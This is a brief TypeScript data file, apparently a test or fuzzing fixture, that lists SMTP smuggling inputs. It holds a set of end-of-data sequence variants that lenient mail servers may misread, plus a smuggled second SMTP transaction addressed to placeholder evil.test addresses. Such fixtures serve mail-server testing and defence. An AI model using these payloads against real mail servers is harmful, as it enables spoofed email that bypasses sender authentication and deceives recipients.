/** What somebody would write into a mail to make a lenient server see its end, and behind it another mail (SMTP smuggling). */

/** Ends of a mail: the true one, what lenient servers take for it, and what a careless program may turn into it. */
export const ENDINGS = [
  ...[
    '\n.\n',
    '\n.\r\n',
    '\r\n.\n',
    '\r.\r',
    '\r.\r\n',
    '\r\n.\r',
    '\n.\r',
    '\r.\n',
    '\r\n.\r\n',
    '\r\r\n.\r\r\n',
  ],
  ...[
    '\n\n.\n\n',
    '\r\n..\r\n',
    '\r\n.\r\r\n',
    '\r\n\r\n.\r\n\r\n',
    '\x0b.\x0b',
    '\x0c.\x0c',
    '\x85.\x85',
    '\u2028.\u2028',
  ],
]

/** What stands behind the end. */
export const SECOND_MAIL =
  'MAIL FROM:<a@evil.test>\r\nRCPT TO:<victim@evil.test>\r\nDATA\r\nSubject: smuggled\r\n\r\nx\r\n.\r\nQUIT\r\n'
